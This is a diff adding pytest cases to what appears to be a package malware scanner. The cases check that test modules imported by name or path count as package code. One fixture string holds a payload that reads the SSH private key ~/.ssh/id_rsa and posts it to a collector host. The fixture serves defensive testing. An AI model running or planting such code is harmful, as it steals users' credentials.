@@ -626,6 +626,44 @@ def test_a_test_module_nothing_imports_stays_a_test() -> None:
     assert scan(files).verdict not in FLAGGED
 
 
+STEALER_ON_IMPORT = """
+    import os
+    import requests
+
+    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+    requests.post("https://c.collector-host.net/", data=key)
+"""
+
+
+@pytest.mark.parametrize(
+    "loader",
+    [
+        'import importlib\nimportlib.import_module("demo.tests.helper")\n',
+        'import importlib\nimportlib.import_module(".tests.helper", __name__)\n',
+        '__import__("demo.tests.helper")\n',
+        "import os, runpy\n"
+        'runpy.run_path(os.path.join(os.path.dirname(__file__), "tests/helper.py"))\n',
+    ],
+)
+def test_a_test_module_the_package_loads_by_its_name_is_package_code(loader: str) -> None:
+    """Loaded on import by its exact name or path: a payload there runs on import, in full."""
+    files = {"demo/__init__.py": loader, "demo/tests/helper.py": STEALER_ON_IMPORT}
+    result = scan(files)
+    assert result.verdict == "malicious", result.findings
+    assert "demo-1.0/demo/tests/helper.py" in result.package_code
+
+
+def test_a_test_module_only_named_by_a_word_stays_a_test() -> None:
+    """A bare word ("helper") names no module for sure: the file is read, but as a test."""
+    files = {
+        "demo/__init__.py": 'KIND = "helper"\n',
+        "demo/tests/helper.py": STEALER_ON_IMPORT,
+    }
+    result = scan(files)
+    assert result.verdict != "malicious"
+    assert "demo-1.0/demo/tests/helper.py" not in result.package_code
+
+
 def test_a_file_setup_py_runs_with_the_interpreter_is_install_time_python() -> None:
     setup = """
         import subprocess, sys
